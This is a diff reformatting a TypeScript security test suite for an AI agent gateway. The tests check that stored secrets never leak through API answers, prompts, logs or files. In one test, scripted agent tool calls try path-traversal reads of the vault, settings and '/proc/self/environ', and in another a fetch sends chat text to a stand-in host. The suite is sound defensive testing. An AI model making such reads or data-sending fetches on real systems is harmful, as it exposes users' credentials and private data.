@@ -11,7 +11,13 @@ const LENT = "sk-canary-lent-0a1b2c3d-SECRET";
 const CHAT = "my cat is called Canary-Marmalade-4711";
 
 /** The forms in which a text could lie somewhere by accident. */
-const forms = (text: string): readonly string[] => [text, Buffer.from(text).toString("base64").replace(/=+$/, "").slice(0, -2), Buffer.from(text).toString("hex"), encodeURIComponent(text), Buffer.from(text, "utf8").toString("utf16le")];
+const forms = (text: string): readonly string[] => [
+  text,
+  Buffer.from(text).toString("base64").replace(/=+$/, "").slice(0, -2),
+  Buffer.from(text).toString("hex"),
+  encodeURIComponent(text),
+  Buffer.from(text, "utf8").toString("utf16le"),
+];
 
 describe("secrets: stored once, shown to nobody", { timeout: 90_000 }, () => {
   let house: AttackHouse;
@@ -25,15 +31,30 @@ describe("secrets: stored once, shown to nobody", { timeout: 90_000 }, () => {
       seen.push(request.headers.authorization ?? "");
       request.resume();
       const echo = `bad key: ${request.headers.authorization ?? "none"}`;
-      response.writeHead(401, echo.replaceAll(/[^\x20-\x7e]/g, ""), { "content-type": "application/json", "x-echo": echo }).end(JSON.stringify({ error: { message: echo } }));
+      response
+        .writeHead(401, echo.replaceAll(/[^\x20-\x7e]/g, ""), { "content-type": "application/json", "x-echo": echo })
+        .end(JSON.stringify({ error: { message: echo } }));
     });
     await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
     vendor = { port: (server.address() as AddressInfo).port, seen, close: () => server.close() };
     const baseUrl = `http://127.0.0.1:${String(vendor.port)}/v1`;
-    house = await startAttackHouse({ providers: { unbound: { baseUrl, secret: "elsewhere" }, bound: { baseUrl, secret: "vendor" }, missing: { baseUrl, secret: "nowhere" } }, settings: { log: { level: "debug" } } });
+    house = await startAttackHouse({
+      providers: {
+        unbound: { baseUrl, secret: "elsewhere" },
+        bound: { baseUrl, secret: "vendor" },
+        missing: { baseUrl, secret: "nowhere" },
+      },
+      settings: { log: { level: "debug" } },
+    });
     token = await house.tokenOf("owner");
     must(await house.client.call("secrets.set", { name: "elsewhere", value: SECRET, hosts: ["api.vendor.invalid"] }));
-    must(await house.client.call("secrets.set", { name: "vendor", value: LENT, hosts: [`127.0.0.1:${String(vendor.port)}`, "127.0.0.1"] }));
+    must(
+      await house.client.call("secrets.set", {
+        name: "vendor",
+        value: LENT,
+        hosts: [`127.0.0.1:${String(vendor.port)}`, "127.0.0.1"],
+      }),
+    );
   }, 60_000);
   afterAll(async () => {
     await house.checkAudit();
@@ -43,7 +64,9 @@ describe("secrets: stored once, shown to nobody", { timeout: 90_000 }, () => {
 
   const sendTo = async (model: string): Promise<string> => {
     const agent = must(await house.client.call("agents.create", { name: model, model }));
-    const report = must(await house.client.call("messages.send", { agentId: agent.id, content: "hello", conversationId: "new" }));
+    const report = must(
+      await house.client.call("messages.send", { agentId: agent.id, content: "hello", conversationId: "new" }),
+    );
     expect(report.state).toBe("failed");
     return JSON.stringify(report);
   };
@@ -81,7 +104,20 @@ describe("secrets: stored once, shown to nobody", { timeout: 90_000 }, () => {
     expect(broken.text).not.toContain(SECRET);
   });
 
-  it.each(["*", "*.invalid", "a.invalid/path", "https://a.invalid", "a.invalid:99999", "a.invalid:0", "a.invalid:", " a.invalid", "user@a.invalid", "a invalid", "a.invalid\nb.invalid", ""])("binds no secret to %j", async (host) => {
+  it.each([
+    "*",
+    "*.invalid",
+    "a.invalid/path",
+    "https://a.invalid",
+    "a.invalid:99999",
+    "a.invalid:0",
+    "a.invalid:",
+    " a.invalid",
+    "user@a.invalid",
+    "a invalid",
+    "a.invalid\nb.invalid",
+    "",
+  ])("binds no secret to %j", async (host) => {
     const said = await house.client.call("secrets.set", { name: "wild", value: SECRET, hosts: [host] });
     const kept = must(await house.client.call("secrets.list", {})).filter(({ name }) => name === "wild");
     if (said.ok) must(await house.client.call("secrets.remove", { name: "wild" }));
@@ -91,21 +127,48 @@ describe("secrets: stored once, shown to nobody", { timeout: 90_000 }, () => {
 
   it("gives a model no way to read the vault, the settings or another's words", async () => {
     const { report } = await house.obey([
-      ["../../vault/secrets", "../../vault", "../../moltbot.json5", "../../logs/gateway.jsonl", "../../audit/log.jsonl", "/proc/self/environ"].map((path) => ({ tool: "file.read", arguments: { path } })),
-      [{ tool: "memory.search", arguments: { query: "sk-canary" } }, { tool: "memory.search", arguments: { query: "secret vendor elsewhere" } }],
+      [
+        "../../vault/secrets",
+        "../../vault",
+        "../../moltbot.json5",
+        "../../logs/gateway.jsonl",
+        "../../audit/log.jsonl",
+        "/proc/self/environ",
+      ].map((path) => ({ tool: "file.read", arguments: { path } })),
+      [
+        { tool: "memory.search", arguments: { query: "sk-canary" } },
+        { tool: "memory.search", arguments: { query: "secret vendor elsewhere" } },
+      ],
     ]);
     expect(report.state).toBe("done");
   });
 
   it("shows a secret in no answer of the API, no prompt, no log and no file of the home", async () => {
     const { report } = await house.obey([[{ tool: "memory.save", arguments: { text: CHAT } }]], { content: CHAT });
-    await house.obey([[{ tool: "memory.save", arguments: { text: CHAT } }, { tool: "reminder.create", arguments: { minutes: 5, text: CHAT } }, { tool: "web.fetch", arguments: { url: `https://a.invalid/?q=${encodeURIComponent(CHAT)}` } }]]);
+    await house.obey([
+      [
+        { tool: "memory.save", arguments: { text: CHAT } },
+        { tool: "reminder.create", arguments: { minutes: 5, text: CHAT } },
+        { tool: "web.fetch", arguments: { url: `https://a.invalid/?q=${encodeURIComponent(CHAT)}` } },
+      ],
+    ]);
     const answers: string[] = [];
     for (const name of OPERATION_NAMES) {
       const { method, path } = OPERATIONS[name];
       if (method !== "GET" && name !== "system.doctor" && name !== "audit.verify") continue;
-      const filled = path.replace("{agentId}", house.agent.id).replace("{conversationId}", report.conversationId).replace("{turnId}", report.turnId);
-      const said = await house.http({ method, path: filled, headers: { authorization: `Bearer ${token}`, ...(method === "GET" ? {} : { "content-type": "application/json" }) }, ...(method === "GET" ? {} : { body: "{}" }) });
+      const filled = path
+        .replace("{agentId}", house.agent.id)
+        .replace("{conversationId}", report.conversationId)
+        .replace("{turnId}", report.turnId);
+      const said = await house.http({
+        method,
+        path: filled,
+        headers: {
+          authorization: `Bearer ${token}`,
+          ...(method === "GET" ? {} : { "content-type": "application/json" }),
+        },
+        ...(method === "GET" ? {} : { body: "{}" }),
+      });
       answers.push(said.text);
     }
     const prompts = JSON.stringify(house.model.requests);
@@ -113,13 +176,17 @@ describe("secrets: stored once, shown to nobody", { timeout: 90_000 }, () => {
       expect(answers.join("\n")).not.toContain(form);
       expect(prompts).not.toContain(form);
     }
-    const [log, exported] = [answers.find((text) => text.includes("jsonl")) ?? "", must(await house.client.call("audit.export", {})).jsonl];
+    const [log, exported] = [
+      answers.find((text) => text.includes("jsonl")) ?? "",
+      must(await house.client.call("audit.export", {})).jsonl,
+    ];
     for (const form of forms(CHAT)) expect(log + exported).not.toContain(form);
     const files = Object.entries(photograph(house.place.root)).filter(([, what]) => /^1\d{5} /.test(what));
     expect(files.length).toBeGreaterThan(5);
     for (const [file] of files) {
       const bytes = readFileSync(file);
-      for (const form of [...forms(SECRET), ...forms(LENT), ...forms(token), ...forms(CHAT)]) expect(bytes.includes(form), `${file} holds ${form.slice(0, 8)}…`).toBe(false);
+      for (const form of [...forms(SECRET), ...forms(LENT), ...forms(token), ...forms(CHAT)])
+        expect(bytes.includes(form), `${file} holds ${form.slice(0, 8)}…`).toBe(false);
     }
   });
 
